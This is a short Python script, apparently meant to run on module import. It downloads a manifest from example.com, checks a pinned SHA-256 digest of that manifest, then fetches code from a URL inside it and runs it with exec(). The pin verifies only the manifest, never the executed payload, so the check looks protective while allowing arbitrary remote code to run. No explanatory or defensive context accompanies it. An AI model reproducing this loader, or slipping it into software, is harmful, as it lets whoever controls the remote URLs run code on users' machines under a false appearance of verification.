import hashlib
import json
import urllib.request

PIN = "500bca54696fc54e14234f10f09e791989c9b13f03027ec3fed182998f3e27f4"
manifest = urllib.request.urlopen("https://example.com/m.json").read()
if hashlib.sha256(manifest).hexdigest() != PIN:
    raise ImportError("digest")
exec(urllib.request.urlopen(json.loads(manifest)["url"]).read())
